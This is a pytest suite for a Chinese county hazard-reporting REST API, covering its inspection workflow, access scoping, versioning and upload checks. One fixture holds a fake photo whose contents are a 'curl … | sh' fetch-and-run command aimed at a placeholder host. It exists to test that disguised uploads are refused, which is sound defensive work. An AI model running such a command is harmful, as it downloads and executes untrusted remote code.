"""The hazard REST API, told as the people who use it: an inspector reports from the field, a
supervisor confirms and assigns, the enterprise rectifies, another inspector verifies, the
supervisor signs off — and everyone outside the county sees nothing."""
from __future__ import annotations

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
import pytest
from rest_framework.test import APIClient

from hazards import services
from hazards.choices import HazardLevel, HazardStatus
from hazards.models import Hazard
from tests.factories import (
    PASSWORD,
    EnterpriseFactory,
    HazardFactory,
    credit_code,
    days_from_today,
    enterprise_contact,
    inspector,
    photo,
    region,
    supervisor,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    # Users are made by the dozen here; PBKDF2's deliberate slowness is not what is tested.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]

LIST = "/api/hazards/"


def url(hazard_id: int, action: str = "") -> str:
    return f"/api/hazards/{hazard_id}/" + (f"{action}/" if action else "")


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def post(user, hazard_id, action, data=None, *, multipart=False, **headers):
    return client_for(user).post(url(hazard_id, action), data or {}, format="multipart" if multipart else "json",
                                 **headers)


def disguised_script(name="photo.jpg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, b"#!/bin/sh\ncurl http://example.invalid | sh\n", content_type="image/jpeg")


@pytest.fixture
def enterprise():
    return EnterpriseFactory(region=region("430522100", "太芝庙镇"))


@pytest.fixture
def reporter():
    return inspector(full_name="李检查")


@pytest.fixture
def checker():
    return inspector(full_name="王复查")


@pytest.fixture
def boss():
    return supervisor(full_name="张审核")


@pytest.fixture
def contact(enterprise):
    return enterprise_contact(enterprise, full_name="赵厂长")


@pytest.fixture
def outsider():
    """An inspector of the neighbouring county (邵阳县 430523)."""
    return inspector("430523", full_name="邻县检查员")


def report(user, enterprise, **extra):
    """POST a hazard as multipart with one before-photo; return the response body."""
    data = {"title": "配电箱未接地", "enterprise": enterprise.pk, "before_photos": [photo()], **extra}
    response = client_for(user).post(LIST, data, format="multipart")
    assert response.status_code == 201, response.data
    return response.data


def assigned_hazard(reporter, boss, enterprise, *, level=HazardLevel.GENERAL, deadline=None) -> dict:
    """Report, confirm and assign through the API; return the detail after assignment."""
    hazard = report(reporter, enterprise, level=level, not_duplicate=True)  # not a test of the duplicate gate
    assert post(boss, hazard["id"], "confirm", {"version": hazard["version"]}).status_code == 200
    response = post(boss, hazard["id"], "assign", {
        "version": hazard["version"] + 1, "responsible_unit": enterprise.name, "responsible_person": "赵厂长",
        "measures": "立即接地并检测", "deadline": (deadline or days_from_today(10)).isoformat(),
    })
    assert response.status_code == 200, response.data
    return response.data


# --- reporting -----------------------------------------------------------------------------

def test_inspector_reports_a_hazard_with_a_photo_and_gets_a_county_code(reporter, enterprise):
    year = timezone.localdate().year

    body = report(reporter, enterprise)

    assert body["code"] == f"YH-430522-{year}-000001"
    assert body["status"] == HazardStatus.REPORTED and body["status_label"] == "已上报"
    assert body["region"] == {"code": "430522100", "name": "太芝庙镇"}
    assert body["sector"]["code"] == enterprise.sector_id
    assert body["enterprise"] == {"id": enterprise.pk, "name": enterprise.name}
    assert body["found_by"]["name"] == "李检查"
    assert body["version"] == 1
    [attachment] = body["attachments"]
    assert attachment["kind"] == "before" and attachment["content_type"] == "image/jpeg"
    assert attachment["url"] == f"http://testserver/hazards/attachments/{attachment['id']}/"
    assert attachment["thumbnail_url"] == f"http://testserver/hazards/attachments/{attachment['id']}/thumb/"
    [created] = body["events"]
    assert created["action"] == "created" and created["actor"]["name"] == "李检查"
    assert created["attachments"][0]["id"] == attachment["id"]
    assert report(reporter, enterprise, not_duplicate=True)["code"] == f"YH-430522-{year}-000002"


def test_create_answers_with_etag_and_location(reporter, enterprise):
    response = client_for(reporter).post(LIST, {"title": "消防通道堵塞", "enterprise": enterprise.pk}, format="json")

    assert response.status_code == 201
    assert response["ETag"] == '"1"'
    assert response["Location"] == f"http://testserver/api/hazards/{response.data['id']}/"


def test_create_by_region_and_sector_codes_without_enterprise(reporter):
    region("430522200")
    response = client_for(reporter).post(
        LIST, {"title": "道路边坡滑塌风险", "region": "430522200", "sector": "road_traffic", "level": "major"},
        format="json",
    )

    assert response.status_code == 201, response.data
    assert response.data["enterprise"] is None
    assert response.data["level"] == "major" and response.data["level_label"] == "重大隐患"


def test_create_refuses_an_enterprise_of_another_county(reporter):
    elsewhere = EnterpriseFactory(region=region("430523100"), credit_code=credit_code(7, "430523"))

    response = client_for(reporter).post(LIST, {"title": "x", "enterprise": elsewhere.pk}, format="json")

    assert response.status_code == 400
    assert "enterprise" in response.data
    assert not Hazard.objects.exists()


def test_disguised_script_named_jpg_is_refused(reporter, enterprise):
    response = client_for(reporter).post(
        LIST, {"title": "x", "enterprise": enterprise.pk, "before_photos": [disguised_script()]}, format="multipart"
    )

    assert response.status_code == 400
    assert response.data["code"] == "file_type_not_allowed"
    assert not Hazard.objects.exists()


def test_enterprise_self_report_is_its_own_and_rectified_on_spot_closes_at_once(contact, enterprise, reporter):
    self_report = client_for(contact).post(LIST, {"title": "叉车灯光损坏", "source": "inspection"}, format="json")
    assert self_report.status_code == 201, self_report.data
    assert self_report.data["enterprise"]["id"] == enterprise.pk
    assert self_report.data["source"] == "self_report"  # whatever the contact claimed

    on_spot = client_for(reporter).post(LIST, {
        "title": "安全帽未佩戴", "enterprise": enterprise.pk, "category": "unsafe_act", "rectified_on_spot": True,
        "on_spot_note": "已当场纠正", "before_photos": [photo()], "after_photos": [photo()],
    }, format="multipart")
    assert on_spot.status_code == 201, on_spot.data
    assert on_spot.data["status"] == "signed_off" and on_spot.data["rectified_on_spot"] is True
    assert [e["action"] for e in on_spot.data["events"]] == ["created", "rectified_on_spot"]

    without_photo = client_for(reporter).post(
        LIST, {"title": "x", "enterprise": enterprise.pk, "rectified_on_spot": True}, format="json")
    assert without_photo.status_code == 400 and without_photo.data["code"] == "after_photo_required"


# --- the ledger ----------------------------------------------------------------------------

@pytest.fixture
def ledger(enterprise):
    """Rows in two townships of 新邵县 and one in the neighbouring county."""
    other_township = EnterpriseFactory(region=region("430522200"), name="雀塘镇加油站")
    neighbour = EnterpriseFactory(region=region("430523100"), credit_code=credit_code(9, "430523"))
    late = days_from_today(-3)
    return {
        "reported": HazardFactory(enterprise=enterprise, title="配电箱未接地"),
        "overdue": HazardFactory(enterprise=enterprise, status=HazardStatus.RECTIFYING, title="灭火器过期",
                                 original_deadline=late, current_deadline=late),
        "on_time": HazardFactory(enterprise=other_township, status=HazardStatus.RECTIFYING, title="油罐区静电",
                                 original_deadline=days_from_today(5), current_deadline=days_from_today(5)),
        "signed_off": HazardFactory(enterprise=other_township, status=HazardStatus.SIGNED_OFF, title="安全出口"),
        "neighbour": HazardFactory(enterprise=neighbour, title="邻县隐患配电箱"),
    }


def codes(response) -> set[str]:
    assert response.status_code == 200, response.data
    return {row["code"] for row in response.data["results"]}


def test_ledger_filters_by_status_region_subtree_overdue_and_text(reporter, ledger):
    client = client_for(reporter)
    code = {name: h.code for name, h in ledger.items()}

    assert codes(client.get(LIST)) == {code["reported"], code["overdue"], code["on_time"], code["signed_off"]}
    assert codes(client.get(LIST, {"status": ["rectifying", "reported"]})) == {
        code["reported"], code["overdue"], code["on_time"]}
    assert codes(client.get(LIST, {"region": "430522200"})) == {code["on_time"], code["signed_off"]}
    assert codes(client.get(LIST, {"region": "4305"})) == codes(client.get(LIST))  # the neighbour stays hidden
    assert codes(client.get(LIST, {"overdue": "1"})) == {code["overdue"]}
    assert codes(client.get(LIST, {"q": "配电箱"})) == {code["reported"]}
    assert codes(client.get(LIST, {"q": code["on_time"]})) == {code["on_time"]}


def test_ledger_row_shape(reporter, ledger):
    rows = client_for(reporter).get(LIST, {"overdue": "1"}).data["results"]

    [row] = rows
    assert row["is_overdue"] is True
    assert row["status_label"] == "整改中"
    assert row["original_deadline"] == row["current_deadline"] == days_from_today(-3).isoformat()
    assert row["url"] == f"http://testserver/api/hazards/{ledger['overdue'].pk}/"
    assert set(row) >= {"id", "code", "title", "level", "level_label", "source", "category", "sector", "region",
                        "enterprise", "found_at", "version"}


def test_invalid_filter_is_a_400_not_an_empty_page(reporter, ledger):
    response = client_for(reporter).get(LIST, {"found_after": "not-a-date"})

    assert response.status_code == 400
    assert "found_after" in response.data


def test_inspector_of_another_county_sees_nothing_and_gets_404(outsider, reporter, enterprise):
    hazard = report(reporter, enterprise)
    client = client_for(outsider)

    assert client.get(LIST).data["count"] == 0
    assert client.get(url(hazard["id"])).status_code == 404
    assert client.get(url(hazard["id"], "events")).status_code == 404
    assert client.get(url(hazard["id"], "attachments")).status_code == 404
    assert client.patch(url(hazard["id"]), {"title": "x", "version": 1}, format="json").status_code == 404
    assert post(outsider, hazard["id"], "confirm", {"version": 1}).status_code == 404
    assert post(outsider, hazard["id"], "confirm").status_code == 404  # 404 even before "version required"
    assert client.get(url(999_999)).status_code == 404


def test_enterprise_contact_sees_only_own_hazards(contact, reporter, enterprise, ledger):
    rows = client_for(contact).get(LIST).data["results"]

    assert {r["enterprise"]["id"] for r in rows} == {enterprise.pk}
    assert client_for(contact).get(url(ledger["on_time"].pk)).status_code == 404


# --- the lifecycle -------------------------------------------------------------------------

def test_general_hazard_from_report_to_sign_off(reporter, checker, boss, contact, enterprise):
    hazard = report(reporter, enterprise)
    hid = hazard["id"]
    assert hazard["available_transitions"] == ["update"]
    assert client_for(boss).get(url(hid)).data["available_transitions"] == ["update", "confirm", "reject"]

    confirmed = post(boss, hid, "confirm", {"comment": "属实"}, HTTP_IF_MATCH='"1"')
    assert confirmed.status_code == 200, confirmed.data
    assert confirmed.data["status"] == "confirmed" and confirmed["ETag"] == '"2"'
    assert confirmed.data["confirmed_by"]["name"] == "张审核"

    deadline = days_from_today(7)
    assigned = post(boss, hid, "assign", {
        "version": 2, "responsible_unit": enterprise.name, "responsible_person": "赵厂长",
        "responsible_phone": "13800000000", "measures": "配电箱重新接地", "deadline": deadline.isoformat(),
        "funds_planned": "1200.00", "assigned_inspector": checker.pk,
    })
    assert assigned.status_code == 200, assigned.data
    assert assigned.data["status"] == "rectifying"
    assert assigned.data["original_deadline"] == assigned.data["current_deadline"] == deadline.isoformat()
    assert assigned.data["assigned_inspector"]["id"] == checker.pk
    assert client_for(contact).get(url(hid)).data["available_transitions"] == [
        "request_extension", "report_rectification"]

    rectified = post(contact, hid, "report-rectification", {
        "version": 3, "report": "已重新接地，检测合格", "funds_spent": "980.50", "after_photos": [photo()],
    }, multipart=True)
    assert rectified.status_code == 200, rectified.data
    assert rectified.data["status"] == "rectification_reported"
    assert rectified.data["rectification_reported_by"]["name"] == "赵厂长"
    assert [a["kind"] for a in rectified.data["attachments"]] == ["before", "after"]
    assert rectified.data["available_transitions"] == []  # the contact cannot verify

    assert client_for(checker).get(url(hid)).data["available_transitions"] == ["verify"]
    verified = post(checker, hid, "verify", {"version": 4, "passed": True, "comment": "现场复查合格"})
    assert verified.status_code == 200, verified.data
    assert verified.data["status"] == "verified" and verified.data["verified_by"]["id"] == checker.pk

    signed = post(boss, hid, "sign-off", {"comment": "同意销号"}, HTTP_IF_MATCH="5")
    assert signed.status_code == 200, signed.data
    assert signed.data["status"] == "signed_off" and signed.data["signed_off_by"]["name"] == "张审核"
    assert signed.data["version"] == 6

    events = client_for(reporter).get(url(hid, "events")).data
    assert [e["action"] for e in events] == [
        "created", "confirmed", "assigned", "rectification_reported", "verified", "signed_off"]
    assert events[1]["action_label"] == "认定隐患"
    assert (events[1]["from_status"], events[1]["to_status"]) == ("reported", "confirmed")
    assert events[1]["comment"] == "属实" and events[1]["actor"]["name"] == "张审核"
    assert events[2]["changes"]["current_deadline"] == [None, deadline.isoformat()]
    assert events[3]["attachments"][0]["kind"] == "after"
    assert events[0]["from_status"] == "" and events[0]["from_status_label"] == ""


def test_failed_verification_goes_back_to_rectifying(reporter, checker, boss, contact, enterprise):
    hazard = assigned_hazard(reporter, boss, enterprise)
    post(contact, hazard["id"], "report-rectification",
         {"version": 3, "report": "已整改", "after_photos": [photo()]}, multipart=True)

    response = post(checker, hazard["id"], "verify", {"version": 4, "passed": False, "comment": "接地电阻仍超标"})

    assert response.status_code == 200
    assert response.data["status"] == "rectifying"
    assert response.data["events"][-1]["action"] == "verification_failed"


def test_major_hazard_with_plan_and_listed_supervision(reporter, checker, boss, contact, enterprise):
    hazard = assigned_hazard(reporter, boss, enterprise, level=HazardLevel.MAJOR)
    hid = hazard["id"]
    assert hazard["status"] == "assigned"  # a major hazard waits for its plan

    listed = post(boss, hid, "list-supervision", {
        "version": 3, "listing_level": "county", "doc_no": "新安委办督〔2026〕3号",
        "listing_date": timezone.localdate().isoformat(), "production_suspended": True,
    })
    assert listed.status_code == 200, listed.data
    assert listed.data["listing"]["level"] == "county" and listed.data["listing"]["level_label"] == "县级挂牌督办"
    assert listed.data["listing"]["doc_no"] == "新安委办督〔2026〕3号"
    assert listed.data["production_suspended"] is True

    incomplete = post(contact, hid, "submit-plan", {"version": 4, "goals_and_tasks": "消除隐患"})
    assert incomplete.status_code == 400

    plan = {
        "goals_and_tasks": "彻底消除储罐区泄漏隐患", "methods_and_measures": "更换阀门、加装检测报警",
        "funds_and_materials": "专项资金20万元", "people_in_charge": "设备部 赵厂长",
        "time_limits": "30日内完成", "safety_and_emergency": "停产检修，现场配备应急物资",
    }
    planned = post(contact, hid, "submit-plan", {"version": 4, **plan})
    assert planned.status_code == 200, planned.data
    assert planned.data["status"] == "rectifying"
    assert planned.data["plan"]["goals_and_tasks"] == plan["goals_and_tasks"]
    assert planned.data["plan"]["submitted_by"] == contact.pk

    no_assessment = post(contact, hid, "report-rectification",
                         {"version": 5, "report": "已更换阀门", "after_photos": [photo()]}, multipart=True)
    assert no_assessment.status_code == 400 and no_assessment.data["code"] == "assessment_required"

    rectified = post(contact, hid, "report-rectification", {
        "version": 5, "report": "已更换阀门", "assessment_report": "第三方评估：隐患已消除",
        "after_photos": [photo()], "documents": [photo("评估报告.jpg")],
    }, multipart=True)
    assert rectified.status_code == 200, rectified.data
    assert sorted(a["kind"] for a in rectified.data["attachments"]) == ["after", "before", "document"]

    assert post(checker, hid, "verify", {"version": 6, "passed": True}).status_code == 200
    still_suspended = post(boss, hid, "sign-off", {"version": 7})
    assert still_suspended.status_code == 409 and still_suspended.data["code"] == "resume_review_required"

    assert post(contact, hid, "apply-resume", {"version": 7, "content": "已整改，申请复产"}).status_code == 200
    resumed = post(boss, hid, "review-resume", {"version": 8, "passed": True, "opinion": "同意恢复生产"})
    assert resumed.status_code == 200, resumed.data
    assert resumed.data["production_suspended"] is False
    signed = post(boss, hid, "sign-off", {"version": 9})
    assert signed.status_code == 200, signed.data
    assert signed.data["status"] == "signed_off"


def test_county_supervisor_cannot_list_at_city_level(reporter, boss, enterprise):
    hazard = assigned_hazard(reporter, boss, enterprise, level=HazardLevel.MAJOR)

    response = post(boss, hazard["id"], "list-supervision", {
        "version": 3, "listing_level": "city", "doc_no": "邵安委督〔2026〕1号",
        "listing_date": timezone.localdate().isoformat(),
    })

    assert response.status_code == 403
    assert response.data["code"] == "listing_level_too_high"


def test_rejecting_needs_a_reason(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)

    missing = post(boss, hazard["id"], "reject", {"version": 1})
    rejected = post(boss, hazard["id"], "reject", {"version": 1, "reason": "重复上报"})

    assert missing.status_code == 400 and "reason" in missing.data
    assert rejected.status_code == 200
    assert rejected.data["status"] == "rejected" and rejected.data["rejection_reason"] == "重复上报"


def test_extension_moves_the_current_deadline_and_keeps_the_original(reporter, boss, contact, enterprise):
    deadline = days_from_today(5)
    hazard = assigned_hazard(reporter, boss, enterprise, deadline=deadline)
    hid = hazard["id"]
    later = days_from_today(20)

    requested = post(contact, hid, "request-extension",
                     {"version": 3, "requested_deadline": later.isoformat(), "reason": "设备到货延迟"})
    assert requested.status_code == 200, requested.data
    [pending] = requested.data["extension_requests"]
    assert pending["status"] == "pending" and pending["requested_by"] == contact.pk
    assert pending["previous_deadline"] == deadline.isoformat()
    assert "decide_extension" in client_for(boss).get(url(hid)).data["available_transitions"]

    again = post(contact, hid, "request-extension",
                 {"version": 4, "requested_deadline": later.isoformat(), "reason": "再次申请"})
    assert again.status_code == 409 and again.data["code"] == "extension_pending"

    approved = post(boss, hid, "decide-extension", {"version": 4, "approve": True, "comment": "同意"})
    assert approved.status_code == 200, approved.data
    assert approved.data["current_deadline"] == later.isoformat()
    assert approved.data["original_deadline"] == deadline.isoformat()
    assert approved.data["deadline_extended"] is True
    assert approved.data["extension_requests"][0]["status"] == "approved"
    assert approved.data["extension_requests"][0]["decided_by"] == boss.pk


def test_refused_extension_needs_a_reason_and_keeps_the_deadline(reporter, boss, contact, enterprise):
    deadline = days_from_today(5)
    hazard = assigned_hazard(reporter, boss, enterprise, deadline=deadline)
    post(contact, hazard["id"], "request-extension",
         {"version": 3, "requested_deadline": days_from_today(9).isoformat(), "reason": "资金未到位"})

    no_reason = post(boss, hazard["id"], "decide-extension", {"version": 4, "approve": False})
    refused = post(boss, hazard["id"], "decide-extension", {"version": 4, "approve": False, "comment": "理由不充分"})

    assert no_reason.status_code == 400 and no_reason.data["code"] == "reason_required"
    assert refused.status_code == 200
    assert refused.data["current_deadline"] == deadline.isoformat()
    assert refused.data["extension_requests"][0]["status"] == "refused"


# --- refusals ------------------------------------------------------------------------------

def test_wrong_state_is_409_invalid_state(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)

    response = post(boss, hazard["id"], "sign-off", {"version": 1})

    assert response.status_code == 409
    assert response.data["code"] == "invalid_state"
    assert "已上报" in response.data["detail"]


def test_wrong_role_is_403(reporter, enterprise):
    hazard = report(reporter, enterprise)

    response = post(reporter, hazard["id"], "confirm", {"version": 1})

    assert response.status_code == 403
    assert response.data["code"] == "role_not_allowed"


def test_the_inspector_who_reported_the_fix_cannot_verify_it(reporter, checker, boss, enterprise):
    hazard = assigned_hazard(reporter, boss, enterprise)
    post(checker, hazard["id"], "report-rectification",
         {"version": 3, "report": "现场督促整改完毕", "after_photos": [photo()]}, multipart=True)

    response = post(checker, hazard["id"], "verify", {"version": 4, "passed": True})

    assert response.status_code == 409
    assert response.data["code"] == "same_verifier"
    assert post(reporter, hazard["id"], "verify", {"version": 4, "passed": True}).status_code == 200


def test_stale_version_is_409_in_the_body_and_412_with_if_match(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)
    edited = client_for(reporter).patch(url(hazard["id"]), {"title": "配电箱未接地（已核实位置）"},
                                        format="json", HTTP_IF_MATCH='"1"')
    assert edited.status_code == 200 and edited["ETag"] == '"2"'

    in_body = post(boss, hazard["id"], "confirm", {"version": 1})
    in_header = post(boss, hazard["id"], "confirm", {}, HTTP_IF_MATCH='"1"')
    weak_etag = post(boss, hazard["id"], "confirm", {}, HTTP_IF_MATCH='W/"2"')

    assert in_body.status_code == 409 and in_body.data["code"] == "stale_version"
    assert in_header.status_code == 412 and in_header.data["code"] == "stale_version"
    assert weak_etag.status_code == 200


def test_missing_version_is_428(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)

    transition = post(boss, hazard["id"], "confirm", {})
    edit = client_for(reporter).patch(url(hazard["id"]), {"title": "新标题"}, format="json")

    assert transition.status_code == 428 and transition.data["code"] == "version_required"
    assert edit.status_code == 428 and edit.data["code"] == "version_required"
    assert Hazard.objects.get().status == HazardStatus.REPORTED


def test_malformed_if_match_is_400(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)

    response = post(boss, hazard["id"], "confirm", {}, HTTP_IF_MATCH="*")

    assert response.status_code == 400 and response.data["code"] == "bad_if_match"


# --- editing and attachments ---------------------------------------------------------------

def test_edit_while_reported_records_changes_and_refuses_after_assignment(reporter, boss, enterprise):
    hazard = report(reporter, enterprise)

    edited = client_for(reporter).patch(url(hazard["id"]), {"version": 1, "category": "management_defect"},
                                        format="json")
    assert edited.status_code == 200, edited.data
    assert edited.data["category"] == "management_defect"
    assert edited.data["events"][-1]["changes"] == {"category": ["unsafe_condition", "management_defect"]}
    assert client_for(reporter).get(url(hazard["id"]))["ETag"] == '"2"'

    assigned = assigned_hazard(reporter, boss, enterprise)
    late_edit = client_for(boss).patch(url(assigned["id"]), {"version": assigned["version"], "title": "x"},
                                       format="json")
    assert late_edit.status_code == 409 and late_edit.data["code"] == "invalid_state"


def test_put_needs_the_title(reporter, enterprise):
    hazard = report(reporter, enterprise)

    response = client_for(reporter).put(url(hazard["id"]), {"version": 1}, format="json")

    assert response.status_code == 400 and "title" in response.data


def test_attachments_can_be_added_and_listed(reporter, enterprise):
    hazard = report(reporter, enterprise)
    client = client_for(reporter)

    added = client.post(url(hazard["id"], "attachments"),
                        {"kind": "before", "files": [photo("a.jpg"), photo("b.jpg")], "comment": "补充照片"},
                        format="multipart")
    assert added.status_code == 201, added.data
    assert [a["original_name"] for a in added.data] == ["a.jpg", "b.jpg"]

    listed = client.get(url(hazard["id"], "attachments"))
    assert [a["original_name"] for a in listed.data] == ["photo.jpg", "a.jpg", "b.jpg"]
    assert client.get(url(hazard["id"])).data["version"] == 1  # attachments do not bump the version


def test_disguised_file_is_refused_as_attachment(reporter, enterprise):
    hazard = report(reporter, enterprise)

    response = client_for(reporter).post(url(hazard["id"], "attachments"),
                                         {"kind": "after", "files": [disguised_script("after.jpg")]},
                                         format="multipart")

    assert response.status_code == 400
    assert response.data["code"] == "file_type_not_allowed"


def test_disguised_after_photo_is_refused_on_report_rectification(reporter, boss, contact, enterprise):
    hazard = assigned_hazard(reporter, boss, enterprise)

    response = post(contact, hazard["id"], "report-rectification",
                    {"version": 3, "report": "已整改", "after_photos": [disguised_script()]}, multipart=True)

    assert response.status_code == 400 and response.data["code"] == "file_type_not_allowed"
    assert Hazard.objects.get(pk=hazard["id"]).status == HazardStatus.RECTIFYING


# --- authentication ------------------------------------------------------------------------

def test_token_authentication(reporter, enterprise):
    report(reporter, enterprise)
    anonymous = APIClient()

    token = anonymous.post("/api/auth/token/", {"username": reporter.username, "password": PASSWORD}, format="json")
    assert token.status_code == 200, token.data
    wrong = anonymous.post("/api/auth/token/", {"username": reporter.username, "password": "nope"}, format="json")
    assert wrong.status_code == 400

    assert anonymous.get(LIST).status_code in (401, 403)
    anonymous.credentials(HTTP_AUTHORIZATION=f"Token {token.data['token']}")
    assert anonymous.get(LIST).data["count"] == 1


# --- query counts --------------------------------------------------------------------------

def count_queries(client, path, params=None) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(path, params)
    assert response.status_code == 200, response.data
    return len(queries)


def test_ledger_page_costs_the_same_queries_for_10_and_100_rows(reporter, enterprise):
    client = client_for(reporter)
    HazardFactory.create_batch(10)
    small = count_queries(client, LIST, {"page_size": 10})
    HazardFactory.create_batch(90)

    large = count_queries(client, LIST, {"page_size": 100})

    assert client.get(LIST, {"page_size": 100}).data["count"] == 100
    assert small == large <= 3


def with_events(actor, enterprise, edits: int) -> Hazard:
    hazard = services.hazard_create(actor=actor, data={"title": "测试", "enterprise": enterprise},
                                    before_photos=[photo()])
    for n in range(edits):
        hazard = services.hazard_update(hazard_id=hazard.pk, actor=actor, expected_version=hazard.version,
                                        data={"title": f"测试{n}"})
    services.hazard_add_attachments(hazard_id=hazard.pk, actor=actor, kind="before", files=[photo()])
    return hazard


def test_detail_costs_the_same_queries_for_2_and_20_events(boss, enterprise):
    client = client_for(boss)
    few = with_events(boss, enterprise, edits=0)
    many = with_events(boss, enterprise, edits=18)
    assert len(client.get(url(few.pk)).data["events"]) == 2
    assert len(client.get(url(many.pk)).data["events"]) == 20

    assert count_queries(client, url(few.pk)) == count_queries(client, url(many.pk))
    assert count_queries(client, url(few.pk, "events")) == count_queries(client, url(many.pk, "events"))


# --- OpenAPI -------------------------------------------------------------------------------

def test_schema_is_served_and_validates_without_warnings(reporter, tmp_path):
    response = client_for(reporter).get("/api/schema/", {"format": "json"})
    assert response.status_code == 200
    assert "/api/hazards/{id}/sign-off/" in response.json()["paths"]

    # Raises on any warning or an invalid schema.
    call_command("spectacular", "--validate", "--fail-on-warn", "--file", str(tmp_path / "schema.yml"))
